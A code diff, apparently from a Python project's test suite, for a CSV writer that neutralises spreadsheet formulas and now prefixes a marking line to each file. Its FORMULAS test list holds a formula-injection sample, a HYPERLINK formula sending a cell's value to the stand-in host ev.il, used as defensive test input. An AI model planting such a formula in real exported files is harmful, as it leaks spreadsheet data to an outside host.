@@ -8,6 +8,7 @@ import io
 import pytest
 
 from desist.core import safecsv
+from desist.core.marking import MARKING
 
 FORMULAS = ['=HYPERLINK("http://ev.il/?"&B2,"Details") urgent', "+44 20", "-1+1", "@SUM(A1)"]
 
@@ -16,14 +17,14 @@ FORMULAS = ['=HYPERLINK("http://ev.il/?"&B2,"Details") urgent', "+44 20", "-1+1"
 def test_formula_cells_get_a_leading_apostrophe(cell: str) -> None:
     buf = io.StringIO()
     safecsv.writer(buf).writerow([cell, "plain"])
-    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'" + cell, "plain"]
+    assert safecsv.marked_rows(buf.getvalue()) == [["'" + cell, "plain"]]
 
 
 def test_other_cells_are_written_as_csv_writes_them() -> None:
     row = ["plain", "a,b", 'say "hi"', -3, 2.5, None, "", "x=1"]
     mine, stdlib = io.StringIO(), io.StringIO()
     safecsv.writer(mine).writerows([row, row])
-    csv.writer(stdlib).writerows([row, row])
+    csv.writer(stdlib).writerows([[MARKING], row, row])
     assert mine.getvalue() == stdlib.getvalue()
 
 
@@ -32,4 +33,34 @@ def test_dict_writer_neutralises_header_and_rows() -> None:
     w = safecsv.DictWriter(buf, fieldnames=["=h", "b"], extrasaction="ignore")
     w.writeheader()
     w.writerow({"=h": "=1+1", "b": 2, "extra": "dropped"})
-    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=h", "b"], ["'=1+1", "2"]]
+    assert safecsv.marked_rows(buf.getvalue()) == [["'=h", "b"], ["'=1+1", "2"]]
+
+
+class _Echo:
+    def write(self, value: str) -> str:
+        return value
+
+
+def test_the_marking_is_the_first_line_before_the_headings_however_written() -> None:
+    """ADR 0030: a renamed or pasted copy keeps the marking, so it is in the content, a row of
+    one cell before the headings, whether the file is written to a buffer, streamed through
+    an echo (the first chunk carries it) or written by DictWriter."""
+    buf = io.StringIO()
+    safecsv.writer(buf).writerows([["a", "b"], ["1", "2"]])
+    assert buf.getvalue().splitlines() == [MARKING, "a,b", "1,2"]
+    stream = safecsv.writer(_Echo())
+    assert stream.writerow(["a", "b"]) == f"{MARKING}\r\na,b\r\n"
+    assert stream.writerow(["1", "2"]) == "1,2\r\n"  # once only
+    dicts = io.StringIO()
+    w = safecsv.DictWriter(dicts, fieldnames=["a"])
+    w.writeheader()
+    w.writerow({"a": "1"})
+    assert dicts.getvalue().splitlines() == [MARKING, "a", "1"]
+
+
+def test_readers_skip_the_marking_line_and_refuse_a_file_without_it() -> None:
+    buf = io.StringIO()
+    safecsv.writer(buf).writerows([["a", "b"], ["1", "2"]])
+    assert safecsv.marked_dicts(buf.getvalue()) == [{"a": "1", "b": "2"}]
+    with pytest.raises(ValueError, match=MARKING):
+        safecsv.marked_rows("a,b\r\n1,2\r\n")
